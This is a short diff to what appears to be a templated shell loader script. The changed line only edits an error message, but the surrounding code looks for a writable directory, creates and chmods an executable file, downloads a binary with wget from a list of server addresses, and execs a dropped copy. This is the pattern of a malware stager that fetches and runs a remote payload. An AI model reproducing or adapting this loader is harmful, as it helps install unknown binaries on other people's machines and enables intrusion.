@@ -55,7 +55,7 @@ for d in $D;do c $d/$i&&exec $d/$i "$0" "$@";done
 l info "fetching %P"
 type wget||x "no wget"
 for d in $D;do n=$d/$i.$$;rm -f $d/.pay*.*;mkdir -p $d&&head -c%S /dev/zero>$n&&chmod 755 $n&&[ -x $n ]&&break;rm -f $n;n=;done
-[ $n ]||x "no room for %S bytes"
+[ $n ]||x "no room"
 while :;do for a in %A;do t
 [ $u -lt $e ]||x "no server gave it whole"
 :>$n;wget -qO$n http://$a/proc/self/exe&w=$!
